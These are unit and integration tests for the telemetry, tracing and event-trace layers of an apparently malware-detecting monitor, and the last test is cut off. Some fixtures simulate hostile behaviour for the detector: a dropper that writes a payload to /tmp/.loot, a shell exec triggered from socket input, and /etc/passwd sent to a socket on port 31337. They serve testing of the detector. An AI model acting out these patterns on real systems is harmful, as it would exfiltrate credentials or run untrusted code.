    EXPECT_EQ(snap.counter("missing"), 0u);
    EXPECT_EQ(snap.gauge("g").value, 5u);
    ASSERT_EQ(snap.histograms.count("h"), 1u);
    EXPECT_EQ(snap.histograms.at("h").count, 1u);
    ASSERT_EQ(snap.histograms.at("h").buckets.size(), 1u);
    EXPECT_EQ(snap.histograms.at("h").buckets[0].second, 1u);
}

TEST(Metrics, MergeAddsCountersAndKeepsGaugeMax)
{
    MetricRegistry a, b;
    a.counter("n").set(3);
    b.counter("n").set(4);
    b.counter("only_b").set(1);
    a.gauge("depth").set(9);
    b.gauge("depth").set(5);
    a.histogram("h").record(2);
    b.histogram("h").record(2);
    b.histogram("h").record(100);

    MetricSnapshot merged = a.snapshot();
    merged.merge(b.snapshot());
    EXPECT_EQ(merged.counter("n"), 7u);
    EXPECT_EQ(merged.counter("only_b"), 1u);
    EXPECT_EQ(merged.gauge("depth").max, 9u);
    EXPECT_EQ(merged.histograms.at("h").count, 3u);
    EXPECT_EQ(merged.histograms.at("h").sum, 104u);
    // Bucket union: [2,4) has 2, [64,128) has 1.
    ASSERT_EQ(merged.histograms.at("h").buckets.size(), 2u);
    EXPECT_EQ(merged.histograms.at("h").buckets[0].second, 2u);
    EXPECT_EQ(merged.histograms.at("h").buckets[1].second, 1u);
}

TEST(Metrics, ConcurrentWritersAreExact)
{
    MetricRegistry registry;
    constexpr int THREADS = 4;
    constexpr int PER_THREAD = 10000;
    std::vector<std::thread> threads;
    for (int t = 0; t < THREADS; ++t)
        threads.emplace_back([&registry] {
            // Get-or-create raced from every thread, then lock-free
            // adds — the fleet worker pattern.
            Counter &c = registry.counter("shared");
            Histogram &h = registry.histogram("hist");
            for (int i = 0; i < PER_THREAD; ++i) {
                c.add();
                h.record((uint64_t)i);
            }
        });
    for (auto &t : threads)
        t.join();
    EXPECT_EQ(registry.counter("shared").value(),
              (uint64_t)THREADS * PER_THREAD);
    EXPECT_EQ(registry.histogram("hist").count(),
              (uint64_t)THREADS * PER_THREAD);
}

TEST(Profiler, PhasesSumToTotalExactly)
{
    PhaseProfiler profiler;
    profiler.start(Phase::Setup);
    {
        PhaseScope vm(&profiler, Phase::VmExecute);
        {
            PhaseScope k(&profiler, Phase::Kernel);
        }
    }
    profiler.stop();

    PhaseBreakdown b = profiler.breakdown();
    uint64_t sum = 0;
    for (size_t i = 0; i < PHASE_COUNT; ++i)
        sum += b.ns[i];
    EXPECT_EQ(sum, b.totalNs);
    // Restores count as entries too: Setup is entered at start and
    // again when the VmExecute scope closes.
    EXPECT_EQ(b.entries[(size_t)Phase::Setup], 2u);
    EXPECT_EQ(b.entries[(size_t)Phase::VmExecute], 2u);
    EXPECT_EQ(b.entries[(size_t)Phase::Kernel], 1u);
}

TEST(Profiler, ScopeRestoresPreviousPhase)
{
    PhaseProfiler profiler;
    profiler.start(Phase::VmExecute);
    {
        PhaseScope k(&profiler, Phase::Kernel);
        {
            PhaseScope d(&profiler, Phase::EventDispatch);
        }
        // Re-entering the current phase is an uncounted no-op.
        PhaseScope again(&profiler, Phase::Kernel);
    }
    profiler.stop();
    PhaseBreakdown b = profiler.breakdown();
    // VmExecute entered once at start, re-entered after the Kernel
    // scope closed: the restore path, not a fresh entry.
    EXPECT_EQ(b.entries[(size_t)Phase::EventDispatch], 1u);
    EXPECT_GE(b.entries[(size_t)Phase::Kernel], 1u);
}

TEST(Profiler, NullProfilerScopesAreNoOps)
{
    PhaseScope scope(nullptr, Phase::ClipsMatch);
    PhaseProfiler stopped;
    // switchTo on a stopped profiler must not attribute time.
    EXPECT_EQ(stopped.switchTo(Phase::Kernel), Phase::Kernel);
    EXPECT_EQ(stopped.breakdown().totalNs, 0u);
}

TEST(Profiler, MergeAddsBreakdowns)
{
    PhaseBreakdown a, b;
    a.ns[(size_t)Phase::VmExecute] = 10;
    a.entries[(size_t)Phase::VmExecute] = 1;
    a.totalNs = 10;
    b.ns[(size_t)Phase::VmExecute] = 5;
    b.ns[(size_t)Phase::Kernel] = 2;
    b.entries[(size_t)Phase::Kernel] = 1;
    b.totalNs = 7;
    a.merge(b);
    EXPECT_EQ(a.phaseNs(Phase::VmExecute), 15u);
    EXPECT_EQ(a.phaseNs(Phase::Kernel), 2u);
    EXPECT_EQ(a.totalNs, 17u);
    EXPECT_DOUBLE_EQ(a.share(Phase::Kernel), 2.0 / 17.0);
}

TEST(Profiler, PhaseNamesAreStable)
{
    EXPECT_STREQ(phaseName(Phase::VmExecute), "vm_execute");
    EXPECT_STREQ(phaseName(Phase::ClipsMatch), "clips_match");
    EXPECT_STREQ(phaseName(Phase::StaticAnalysis), "static_analysis");
    EXPECT_STREQ(phaseName(Phase::Other), "other");
}

TEST(StatsSink, JsonLinesShape)
{
    RunTelemetry t;
    t.profiled = true;
    t.phases.ns[(size_t)Phase::VmExecute] = 123;
    t.phases.entries[(size_t)Phase::VmExecute] = 2;
    t.phases.totalNs = 123;
    t.metrics.counters["os.syscalls"] = 7;
    t.metrics.gauges["fleet.queue_depth"] = {1, 4};
    t.metrics.histograms["fleet.session_us"] = {2, 10, {{7, 2}}};

    std::string json = renderJsonLines(t);
    EXPECT_NE(json.find("{\"type\":\"run\",\"profiled\":true,"
                        "\"total_ns\":123}"),
              std::string::npos);
    EXPECT_NE(json.find("{\"type\":\"phase\",\"name\":\"vm_execute\","
                        "\"ns\":123,\"entries\":2}"),
              std::string::npos);
    EXPECT_NE(json.find("{\"type\":\"counter\",\"name\":"
                        "\"os.syscalls\",\"value\":7}"),
              std::string::npos);
    EXPECT_NE(json.find("{\"type\":\"gauge\",\"name\":"
                        "\"fleet.queue_depth\",\"value\":1,"
                        "\"max\":4}"),
              std::string::npos);
    EXPECT_NE(json.find("\"buckets\":[[7,2]]"), std::string::npos);

    // Every line parses standalone: balanced braces, no trailing
    // garbage (the streaming-consumer contract).
    std::istringstream lines(json);
    std::string line;
    while (std::getline(lines, line)) {
        ASSERT_FALSE(line.empty());
        EXPECT_EQ(line.front(), '{');
        EXPECT_EQ(line.back(), '}');
    }

    std::ostringstream out;
    writeJsonLines(t, out);
    EXPECT_EQ(out.str(), json);
}

TEST(StatsSink, TextRenderMentionsPhasesAndMetrics)
{
    RunTelemetry t;
    t.profiled = true;
    t.phases.ns[(size_t)Phase::ClipsFire] = 1000000;
    t.phases.entries[(size_t)Phase::ClipsFire] = 3;
    t.phases.totalNs = 2000000;
    t.metrics.counters["clips.fires"] = 3;
    std::string text = renderText(t);
    EXPECT_NE(text.find("clips_fire"), std::string::npos);
    EXPECT_NE(text.find("clips.fires"), std::string::npos);
}

TEST(StatsSink, JsonEscape)
{
    EXPECT_EQ(jsonEscape("plain"), "plain");
    EXPECT_EQ(jsonEscape("q\"b\\s"), "q\\\"b\\\\s");
    EXPECT_EQ(jsonEscape(std::string("\n", 1)), "\\n");
}

TEST(Telemetry, MergeCombinesPhasesAndMetrics)
{
    RunTelemetry a, b;
    a.profiled = false;
    a.metrics.counters["n"] = 1;
    a.phases.totalNs = 5;
    a.phases.ns[(size_t)Phase::Other] = 5;
    b.profiled = true;
    b.metrics.counters["n"] = 2;
    b.phases.totalNs = 7;
    b.phases.ns[(size_t)Phase::Other] = 7;
    a.merge(b);
    EXPECT_TRUE(a.profiled);
    EXPECT_EQ(a.metrics.counter("n"), 3u);
    EXPECT_EQ(a.phases.totalNs, 12u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
