/**
 * @file
 * Unit tests for the span tracer (ring semantics, profiler span ids,
 * Chrome trace_event export), the flight recorder and the provenance
 * graph — the pure-data observability types, no monitored run.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "obs/Flight.hh"
#include "obs/Provenance.hh"
#include "obs/Span.hh"
#include "support/Json.hh"

using namespace hth;
using namespace hth::obs;
using support::JsonValue;
using support::parseJson;

TEST(Span, IdsMirrorPhases)
{
    // The cast-based conversion is only sound while the two enums
    // stay in lockstep; pin each pair.
    EXPECT_EQ(spanIdOfPhase(Phase::Setup), SpanId::Setup);
    EXPECT_EQ(spanIdOfPhase(Phase::VmExecute), SpanId::VmExecute);
    EXPECT_EQ(spanIdOfPhase(Phase::ClipsFire), SpanId::ClipsFire);
    EXPECT_EQ(spanIdOfPhase(Phase::Other), SpanId::Other);
    EXPECT_STREQ(spanName(SpanId::VmExecute), "vm_execute");
    EXPECT_STREQ(spanName(SpanId::ClipsPump), "clips_pump");
    EXPECT_STREQ(spanName(SpanId::SuperblockForm),
                 "superblock_form");
    EXPECT_STREQ(spanName(SpanId::Monitor), "monitor");
}

TEST(Span, RingRecordsInOrder)
{
    SpanTracer tracer(8);
    for (uint64_t i = 0; i < 5; ++i)
        tracer.record(SpanId::Kernel, 10 * i, 10 * i + 5);
    EXPECT_EQ(tracer.recorded(), 5u);
    EXPECT_EQ(tracer.dropped(), 0u);
    std::vector<SpanRecord> spans = tracer.snapshot();
    ASSERT_EQ(spans.size(), 5u);
    for (size_t i = 0; i < spans.size(); ++i) {
        EXPECT_EQ(spans[i].beginNs, 10 * i);
        EXPECT_EQ(spans[i].endNs, 10 * i + 5);
    }
}

TEST(Span, RingWrapsAndCountsDropped)
{
    SpanTracer tracer(4);
    for (uint64_t i = 0; i < 11; ++i)
        tracer.record(SpanId::ClipsPump, i, i + 1);
    EXPECT_EQ(tracer.recorded(), 11u);
    EXPECT_EQ(tracer.dropped(), 7u);
    // The snapshot holds exactly the newest `capacity` spans,
    // oldest first — ring order must equal time order after many
    // wraps, not just one.
    std::vector<SpanRecord> spans = tracer.snapshot();
    ASSERT_EQ(spans.size(), 4u);
    for (size_t i = 0; i < 4; ++i)
        EXPECT_EQ(spans[i].beginNs, 7 + i);
}

TEST(Span, ZeroCapacityIsClamped)
{
    // A zero-slot ring would divide by zero on wrap; the tracer
    // promises at least one slot.
    SpanTracer tracer(0);
    EXPECT_GE(tracer.capacity(), 1u);
    tracer.record(SpanId::Other, 1, 2);
    EXPECT_EQ(tracer.snapshot().size(), 1u);
}

TEST(Span, ResetClearsRing)
{
    SpanTracer tracer(4);
    tracer.record(SpanId::Other, 1, 2);
    tracer.reset();
    EXPECT_EQ(tracer.recorded(), 0u);
    EXPECT_TRUE(tracer.snapshot().empty());
}

TEST(Span, ScopeIsNullSafeAndRecords)
{
    {
        SpanScope noop(nullptr, SpanId::ImageLoad); // must not crash
    }
    SpanTracer tracer(4);
    {
        SpanScope scope(&tracer, SpanId::ImageLoad);
    }
    std::vector<SpanRecord> spans = tracer.snapshot();
    ASSERT_EQ(spans.size(), 1u);
    EXPECT_EQ(spans[0].id, SpanId::ImageLoad);
    EXPECT_LE(spans[0].beginNs, spans[0].endNs);
}

TEST(Span, TraceJsonIsValidAndComplete)
{
    SpanLane lane;
    lane.pid = 3;
    lane.tid = 2;
    lane.processName = "pma";
    lane.threadName = "worker 1";
    lane.spans = {{1000, 2500, SpanId::VmExecute},
                  {2500, 2600, SpanId::ClipsPump}};

    std::string json = renderTraceJson({lane});
    JsonValue doc = parseJson(json);
    ASSERT_TRUE(doc.isObject());
    const auto &events = doc.at("traceEvents").items();
    // 2 metadata (process_name, thread_name) + 2 complete events.
    ASSERT_EQ(events.size(), 4u);

    size_t metadata = 0, complete = 0;
    for (const JsonValue &ev : events) {
        const std::string &ph = ev.at("ph").str();
        EXPECT_TRUE(ev.has("pid"));
        EXPECT_TRUE(ev.has("ts"));
        if (ph == "M") {
            ++metadata;
        } else if (ph == "X") {
            ++complete;
            EXPECT_EQ(ev.at("pid").number(), 3);
            EXPECT_EQ(ev.at("tid").number(), 2);
            EXPECT_TRUE(ev.has("dur"));
        }
    }
    EXPECT_EQ(metadata, 2u);
    EXPECT_EQ(complete, 2u);

    // Timestamps are rebased to the earliest span: 1000 ns -> 0 us,
    // and the 1500 ns duration renders as fractional microseconds.
    EXPECT_NE(json.find("\"ts\":0.000,"), std::string::npos);
    EXPECT_NE(json.find("\"dur\":1.500"), std::string::npos);
    EXPECT_NE(json.find("\"name\":\"vm_execute\""),
              std::string::npos);
}

TEST(Span, TraceJsonReportsDrops)
{
    SpanLane lane;
    lane.processName = "s";
    lane.threadName = "w";
    lane.spans = {{0, 1, SpanId::Other}};
    lane.dropped = 9;
    std::string json = renderTraceJson({lane});
    JsonValue doc = parseJson(json);
    bool saw_instant = false;
    for (const JsonValue &ev : doc.at("traceEvents").items())
        if (ev.at("ph").str() == "i") {
            saw_instant = true;
            EXPECT_EQ(ev.at("name").str(), "spans_dropped");
        }
    EXPECT_TRUE(saw_instant);
}

TEST(Span, EmptyLanesStillParse)
{
    JsonValue doc = parseJson(renderTraceJson({}));
    EXPECT_TRUE(doc.at("traceEvents").items().empty());
}

TEST(Flight, KeepsLastEntriesInOrder)
{
    FlightRecorder flight(3);
    ASSERT_TRUE(flight.enabled());
    for (uint64_t t = 1; t <= 5; ++t)
        flight.note(t, 'E', "event " + std::to_string(t));
    EXPECT_EQ(flight.total(), 5u);
    std::vector<std::string> dump = flight.dump();
    ASSERT_EQ(dump.size(), 3u);
    EXPECT_EQ(dump[0], "t=3 E event 3");
    EXPECT_EQ(dump[1], "t=4 E event 4");
    EXPECT_EQ(dump[2], "t=5 E event 5");
}

TEST(Flight, TruncatesLongTextWithoutHeapChurn)
{
    FlightRecorder flight(2);
    std::string longtext(500, 'x');
    flight.note(7, 'W', longtext);
    std::vector<std::string> dump = flight.dump();
    ASSERT_EQ(dump.size(), 1u);
    // "t=7 W " prefix + at most TEXT_CAPACITY payload bytes.
    EXPECT_LE(dump[0].size(),
              6 + FlightRecorder::TEXT_CAPACITY);
    EXPECT_EQ(dump[0].substr(0, 8), "t=7 W xx");
}

TEST(Flight, ZeroEntriesDisables)
{
    FlightRecorder flight(0);
    EXPECT_FALSE(flight.enabled());
    flight.note(1, 'E', "ignored");
    EXPECT_TRUE(flight.dump().empty());
}

TEST(Provenance, NodesAndEdgesDeduplicate)
{
    ProvenanceGraph g;
    ProvNode &w = g.node("warning:0", "warning");
    ProvenanceGraph::attr(w, "rule", "exec_downloaded");
    ProvenanceGraph::attr(w, "rule", "ignored-second-set");
    ProvNode &again = g.node("warning:0", "other-kind-ignored");
    EXPECT_EQ(&w, &again);
    EXPECT_EQ(w.kind, "warning");
    ASSERT_NE(w.attr("rule"), nullptr);
    EXPECT_EQ(*w.attr("rule"), "exec_downloaded");

    g.node("fire:1", "fire");
    g.edge("warning:0", "fire:1", "fired_by");
    g.edge("warning:0", "fire:1", "fired_by");
    EXPECT_EQ(g.nodes().size(), 2u);
    EXPECT_EQ(g.edges().size(), 1u);
}

TEST(Provenance, NodeReferencesStayStable)
{
    // Assembly holds references across later insertions; a vector
    // store would invalidate them.
    ProvenanceGraph g;
    ProvNode &first = g.node("a", "warning");
    for (int i = 0; i < 100; ++i)
        g.node("n" + std::to_string(i), "fact");
    ProvenanceGraph::attr(first, "k", "v");
    EXPECT_EQ(*g.findNode("a")->attr("k"), "v");
}

TEST(Provenance, JsonRoundTripsStructure)
{
    ProvenanceGraph g;
    ProvNode &w = g.node("warning:0", "warning");
    ProvenanceGraph::attr(w, "message", "quote \" and \\ back");
    g.node("origin:SOCKET:gateway", "origin");
    g.edge("warning:0", "origin:SOCKET:gateway", "source_origin");
    g.flight = {"t=1 E read net"};

    JsonValue doc = parseJson(g.toJson());
    ASSERT_EQ(doc.at("nodes").items().size(), 2u);
    const JsonValue &n0 = doc.at("nodes").items()[0];
    EXPECT_EQ(n0.at("id").str(), "warning:0");
    EXPECT_EQ(n0.at("kind").str(), "warning");
    EXPECT_EQ(n0.at("attrs").at("message").str(),
              "quote \" and \\ back");
    const JsonValue &e0 = doc.at("edges").items()[0];
    EXPECT_EQ(e0.at("from").str(), "warning:0");
    EXPECT_EQ(e0.at("label").str(), "source_origin");
    ASSERT_EQ(doc.at("flight").items().size(), 1u);
    EXPECT_EQ(doc.at("flight").items()[0].str(), "t=1 E read net");
}

TEST(Provenance, DotAndChainsRenderEveryNode)
{
    ProvenanceGraph g;
    g.node("warning:0", "warning");
    ProvenanceGraph::attr(g.node("warning:0", "warning"), "rule",
                          "r1");
    g.node("fire:0", "fire");
    g.edge("warning:0", "fire:0", "fired_by");

    std::string dot = g.toDot();
    EXPECT_NE(dot.find("digraph"), std::string::npos);
    EXPECT_NE(dot.find("warning:0"), std::string::npos);
    EXPECT_NE(dot.find("fired_by"), std::string::npos);

    std::string chains = g.renderChains();
    EXPECT_NE(chains.find("fired_by"), std::string::npos);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
