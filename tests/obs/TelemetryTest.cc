/**
 * @file
 * Integration tests for Report.telemetry: the phase breakdown must
 * account for the run's wall time, and the harvested counters must
 * agree with the layer-internal stats they mirror.
 */

#include <gtest/gtest.h>

#include <chrono>
#include <numeric>

#include "core/Hth.hh"
#include "obs/StatsSink.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/** A tight loop: exercises the block cache (hot hits, few misses). */
std::shared_ptr<const vm::Image>
makeLoopGuest(int iterations)
{
    Gasm a("/t/loop");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("loop");
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, iterations);
    a.jl("loop");
    a.exit(0);
    return a.build();
}

/** A dropper that trips io_BINARY_to_FILE (per-rule counters). */
std::shared_ptr<const vm::Image>
makeDropper()
{
    Gasm a("/t/dropper");
    a.dataString("path", "/tmp/.loot");
    a.dataString("payload", "bad-bytes");
    a.label("main");
    a.entry("main");
    a.creatSym("path");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "payload", 9);
    a.exit(0);
    return a.build();
}

uint64_t
phaseSum(const obs::PhaseBreakdown &b)
{
    return std::accumulate(b.ns.begin(), b.ns.end(), uint64_t{0});
}

} // namespace

TEST(Telemetry, PhaseTotalsAccountForRunWallTime)
{
    Hth hth;
    auto image = makeLoopGuest(50000);
    hth.kernel().vfs().addBinary(image->path, image);

    auto t0 = std::chrono::steady_clock::now();
    Report report = hth.monitor(image->path, {image->path});
    uint64_t wall_ns =
        (uint64_t)std::chrono::duration_cast<std::chrono::nanoseconds>(
            std::chrono::steady_clock::now() - t0)
            .count();

    ASSERT_TRUE(report.telemetry.profiled);
    const obs::PhaseBreakdown &phases = report.telemetry.phases;
    // The transition design makes per-phase times sum to the total
    // exactly; the total is bounded by what we measured around the
    // call (monitor() does a little work outside the profiled span,
    // so equality is one-sided).
    EXPECT_EQ(phaseSum(phases), phases.totalNs);
    EXPECT_GT(phases.totalNs, 0u);
    EXPECT_LE(phases.totalNs, wall_ns);
    // A pure compute loop spends its profiled time executing.
    EXPECT_GT(phases.phaseNs(obs::Phase::VmExecute), 0u);
    EXPECT_GT(phases.share(obs::Phase::VmExecute), 0.5);
}

TEST(Telemetry, BlockCacheCountersMatchMachineStats)
{
    Hth hth;
    auto image = makeLoopGuest(5000);
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    uint64_t hits = 0, misses = 0, invalidations = 0, insns = 0;
    uint64_t sbInsns = 0;
    for (const auto &p : hth.kernel().processes()) {
        const vm::MachineStats &ms = p->machine.stats();
        hits += ms.blockCacheHits;
        misses += ms.blockCacheMisses;
        invalidations += ms.blockCacheInvalidations;
        insns += ms.instructions;
        sbInsns += ms.superblockInsns;
    }
    const obs::MetricSnapshot &m = report.telemetry.metrics;
    EXPECT_EQ(m.counter("vm.block_cache.hits"), hits);
    EXPECT_EQ(m.counter("vm.block_cache.misses"), misses);
    EXPECT_EQ(m.counter("vm.block_cache.invalidations"),
              invalidations);
    EXPECT_EQ(m.counter("vm.instructions"), insns);
    // The loop re-enters its two blocks thousands of times: nearly
    // every dispatch must come from the cache or from inside a
    // linked trace (which bypasses the cache entirely, so cache
    // hits alone no longer bound dispatch work).
    EXPECT_GT(hits + sbInsns, misses * 100);
    // Every miss decoded at least one instruction.
    EXPECT_GE(m.counter("vm.block_cache.insns_decoded"), misses);
    EXPECT_GT(misses, 0u);
}

TEST(Telemetry, SyscallsCountedByNumber)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    const obs::MetricSnapshot &m = report.telemetry.metrics;
    EXPECT_EQ(m.counter("os.syscall.SYS_creat"), 1u);
    EXPECT_EQ(m.counter("os.syscall.SYS_write"), 1u);
    EXPECT_EQ(m.counter("os.syscall.SYS_exit"), 1u);
    // Per-number counts decompose the total.
    uint64_t by_number = 0;
    for (const auto &[name, value] : m.counters)
        if (name.rfind("os.syscall.", 0) == 0)
            by_number += value;
    EXPECT_EQ(by_number, m.counter("os.syscalls"));
    EXPECT_GT(m.counter("os.vfs_ops"), 0u);
}

TEST(Telemetry, PerRuleCountersOnFlaggedRun)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    ASSERT_TRUE(report.flagged());
    const obs::MetricSnapshot &m = report.telemetry.metrics;
    EXPECT_GE(m.counter("clips.fires.io_BINARY_to_FILE"), 1u);
    EXPECT_GE(m.counter("clips.activations.io_BINARY_to_FILE"), 1u);
    // Activations bound fires: every fire was an activation first.
    uint64_t fires = 0, activations = 0;
    for (const auto &[name, value] : m.counters) {
        if (name.rfind("clips.fires.", 0) == 0)
            fires += value;
        if (name.rfind("clips.activations.", 0) == 0)
            activations += value;
    }
    EXPECT_EQ(fires, m.counter("clips.fires"));
    EXPECT_GE(activations, fires);
    EXPECT_GT(m.counter("clips.alpha_hits"), 0u);
}

TEST(Telemetry, LegacyReportFieldsMatchSnapshot)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    const obs::MetricSnapshot &m = report.telemetry.metrics;
    EXPECT_EQ(report.instructions, m.counter("os.ticks"));
    EXPECT_EQ(report.syscalls, m.counter("os.syscalls"));
    EXPECT_EQ(report.eventsAnalyzed,
              m.counter("secpert.events_analyzed"));
    EXPECT_EQ(report.rulesFired, m.counter("secpert.rules_fired"));
    EXPECT_GT(report.instructions, 0u);
    EXPECT_GT(report.syscalls, 0u);
}

TEST(Telemetry, DisabledTelemetryStillHarvestsCounters)
{
    HthOptions options;
    options.telemetry = false;
    Hth hth(options);
    auto image = makeLoopGuest(1000);
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    EXPECT_FALSE(report.telemetry.profiled);
    EXPECT_EQ(report.telemetry.phases.totalNs, 0u);
    // The counter harvest is end-of-run bookkeeping, not profiling:
    // it stays on so Reports remain comparable.
    EXPECT_GT(report.telemetry.metrics.counter("vm.instructions"),
              0u);
    EXPECT_GT(report.instructions, 0u);
}

TEST(Telemetry, RepeatedMonitorDoesNotDoubleCount)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report first = hth.monitor(image->path, {image->path});
    Report second = hth.monitor(image->path, {image->path});

    // Set-semantics harvest: the second snapshot reflects cumulative
    // layer stats, never snapshot + snapshot.
    EXPECT_GE(second.telemetry.metrics.counter("os.syscalls"),
              first.telemetry.metrics.counter("os.syscalls"));
    EXPECT_LT(second.telemetry.metrics.counter("os.syscalls"),
              2 * first.telemetry.metrics.counter("os.syscalls") + 1);
    EXPECT_EQ(second.syscalls,
              second.telemetry.metrics.counter("os.syscalls"));
}

TEST(Telemetry, CountersAreDeterministicAcrossIdenticalRuns)
{
    // The anomaly scorer's contract: everything a baseline profiles
    // (counters and gauge levels) is a pure function of the guest
    // world and inputs. Only wall-clock data — the phase breakdown
    // and duration histograms — may differ between identical runs,
    // which is exactly why baselines never include them.
    auto runOnce = [] {
        Hth hth;
        auto image = makeDropper();
        hth.kernel().vfs().addBinary(image->path, image);
        return hth.monitor(image->path, {image->path});
    };
    Report a = runOnce();
    Report b = runOnce();

    EXPECT_EQ(a.telemetry.metrics.counters,
              b.telemetry.metrics.counters);
    EXPECT_EQ(a.telemetry.metrics.gauges, b.telemetry.metrics.gauges);
    ASSERT_FALSE(a.telemetry.metrics.counters.empty());
    // Sanity: the runs really did measure time independently.
    EXPECT_GT(a.telemetry.phases.totalNs, 0u);
    EXPECT_GT(b.telemetry.phases.totalNs, 0u);
}

TEST(Telemetry, RendersWithoutError)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    std::string text = obs::renderText(report.telemetry);
    EXPECT_NE(text.find("vm_execute"), std::string::npos);
    EXPECT_NE(text.find("os.syscalls"), std::string::npos);
    std::string json = obs::renderJsonLines(report.telemetry);
    EXPECT_NE(json.find("\"type\":\"run\""), std::string::npos);
    EXPECT_NE(json.find("\"type\":\"phase\""), std::string::npos);
    EXPECT_NE(json.find("\"type\":\"counter\""), std::string::npos);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
