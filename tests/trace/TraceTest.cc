/**
 * @file
 * Unit tests for the binary event-trace layer: wire-format
 * round-trips for every event type and field, header validation,
 * and rejection of corrupted / truncated traces.
 */

#include <gtest/gtest.h>

#include <sstream>

#include "support/Logging.hh"
#include "trace/Trace.hh"
#include "trace/TraceReader.hh"
#include "trace/TraceWriter.hh"

using namespace hth;
using namespace hth::trace;
using namespace hth::harrier;

namespace
{

/** Stores every delivered event for field-by-field comparison. */
struct CaptureSink : EventSink
{
    std::vector<ResourceAccessEvent> accesses;
    std::vector<ResourceIoEvent> ios;
    std::vector<StaticFindingEvent> findings;

    void
    onResourceAccess(const ResourceAccessEvent &ev) override
    {
        accesses.push_back(ev);
    }

    void
    onResourceIo(const ResourceIoEvent &ev) override
    {
        ios.push_back(ev);
    }

    void
    onStaticFinding(const StaticFindingEvent &ev) override
    {
        findings.push_back(ev);
    }
};

ResourceAccessEvent
sampleAccess()
{
    ResourceAccessEvent ev;
    ev.ctx.pid = 42;
    ev.ctx.binaryPath = "/bin/suspect";
    ev.ctx.time = 1234;
    ev.ctx.absTime = 99999;
    ev.ctx.frequency = 7;
    ev.ctx.address = 0xdeadbeef;
    ev.syscall = "SYS_execve";
    ev.resName = "/bin/sh";
    ev.resType = taint::SourceType::Binary;
    ev.origins = {{taint::SourceType::Socket, "10.0.0.1:99"},
                  {taint::SourceType::UserInput, "stdin"}};
    ev.isProcessCreate = true;
    ev.amount = 4096;
    return ev;
}

ResourceIoEvent
sampleIo()
{
    ResourceIoEvent ev;
    ev.ctx.pid = 7;
    ev.ctx.binaryPath = "/bin/leaky";
    ev.ctx.time = 55;
    ev.ctx.absTime = 60;
    ev.ctx.frequency = 1;
    ev.ctx.address = 0x1000;
    ev.syscall = "SYS_write";
    ev.isWrite = true;
    ev.source = {taint::SourceType::File, "/etc/passwd"};
    ev.sourceOrigins = {{taint::SourceType::Binary, "/bin/leaky"}};
    ev.targetName = "10.1.2.3:31337";
    ev.targetType = taint::SourceType::Socket;
    ev.targetOrigins = {{taint::SourceType::Binary, "/bin/leaky"}};
    ev.viaServer = true;
    ev.serverName = "0.0.0.0:8080";
    ev.serverOrigins = {{taint::SourceType::UserInput, "argv"}};
    ev.length = 512;
    return ev;
}

StaticFindingEvent
sampleFinding()
{
    StaticFindingEvent ev;
    ev.imagePath = "/bin/suspect";
    ev.kind = "MAGIC_GUARD";
    ev.level = 3;
    ev.address = 0x44;
    ev.syscall = "SYS_execve";
    ev.resource = "/bin/sh";
    ev.detail = "guard compares socket input against constant";
    return ev;
}

/** Record the three sample events into a finished trace string. */
std::string
sampleTrace()
{
    std::ostringstream out;
    TraceWriter writer(out);
    writer.onResourceAccess(sampleAccess());
    writer.onResourceIo(sampleIo());
    writer.onStaticFinding(sampleFinding());
    writer.finish();
    return out.str();
}

} // namespace

TEST(Crc32, KnownVector)
{
    // The IEEE 802.3 check value for "123456789".
    EXPECT_EQ(crc32("123456789", 9), 0xcbf43926u);
    EXPECT_EQ(crc32("", 0), 0u);
    // Incremental == one-shot.
    uint32_t inc = crc32("1234", 4);
    inc = crc32("56789", 5, inc);
    EXPECT_EQ(inc, 0xcbf43926u);
}

TEST(TraceRoundTrip, AllFieldsSurvive)
{
    std::istringstream in(sampleTrace());
    TraceReader reader(in);
    EXPECT_EQ(reader.version(), VERSION);

    CaptureSink sink;
    EXPECT_EQ(reader.replay(sink), 3u);
    EXPECT_TRUE(reader.atEnd());

    ASSERT_EQ(sink.accesses.size(), 1u);
    const ResourceAccessEvent &a = sink.accesses[0];
    const ResourceAccessEvent want_a = sampleAccess();
    EXPECT_EQ(a.ctx.pid, want_a.ctx.pid);
    EXPECT_EQ(a.ctx.binaryPath, want_a.ctx.binaryPath);
    EXPECT_EQ(a.ctx.time, want_a.ctx.time);
    EXPECT_EQ(a.ctx.absTime, want_a.ctx.absTime);
    EXPECT_EQ(a.ctx.frequency, want_a.ctx.frequency);
    EXPECT_EQ(a.ctx.address, want_a.ctx.address);
    EXPECT_EQ(a.syscall, want_a.syscall);
    EXPECT_EQ(a.resName, want_a.resName);
    EXPECT_EQ(a.resType, want_a.resType);
    EXPECT_EQ(a.origins, want_a.origins);
    EXPECT_EQ(a.isProcessCreate, want_a.isProcessCreate);
    EXPECT_EQ(a.amount, want_a.amount);

    ASSERT_EQ(sink.ios.size(), 1u);
    const ResourceIoEvent &io = sink.ios[0];
    const ResourceIoEvent want_io = sampleIo();
    EXPECT_EQ(io.ctx.pid, want_io.ctx.pid);
    EXPECT_EQ(io.syscall, want_io.syscall);
    EXPECT_EQ(io.isWrite, want_io.isWrite);
    EXPECT_EQ(io.source, want_io.source);
